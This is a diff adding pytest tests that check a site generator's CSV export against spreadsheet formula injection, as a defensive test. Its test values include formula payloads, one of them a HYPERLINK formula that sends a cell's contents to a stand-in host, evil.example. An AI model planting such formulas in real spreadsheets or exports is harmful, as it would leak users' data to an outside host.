@@ -151,3 +151,36 @@ def test_domain_page_lists_resource_persons_with_contact(example_site: Path) -> 
     page = (example_site / "map/decoupe-laser/index.html").read_text("utf-8")
     assert "Ève Quéré" in page and "https://example.org/contact/eve-quere" in page
     assert "Bob Le Gall" not in page
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\tA", "\rA"],
+)
+def test_no_csv_cell_is_a_formula(name: str) -> None:
+    from generator.site.render.open_data import spreadsheet_safe
+
+    cell = spreadsheet_safe(name)
+    assert cell == "'" + name
+    assert spreadsheet_safe("Alice Martin") == "Alice Martin"
+
+
+def test_a_display_name_written_as_a_formula_is_inert_in_the_csv(
+    network: SignedNetwork, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
+    link_person(network, "piege", network.laser, {"map": True, "resource": True})
+    skills = network.site / "content" / "skills.yaml"
+    skills.write_text(
+        skills.read_text("utf-8").replace("  debutant:\n", "  debutant:\n    resource: true\n"),
+        "utf-8",
+    )
+    person = network.site / PERSON.format(slug="piege")
+    person.write_text(
+        person.read_text("utf-8").replace("name: Personne piege", f"name: '{formula}'"), "utf-8"
+    )
+    build_site(network.site, tmp_path / "out")
+    text = (tmp_path / "out" / "data" / "skills-map.csv").read_text("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert any(cell.startswith("'" + formula) for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
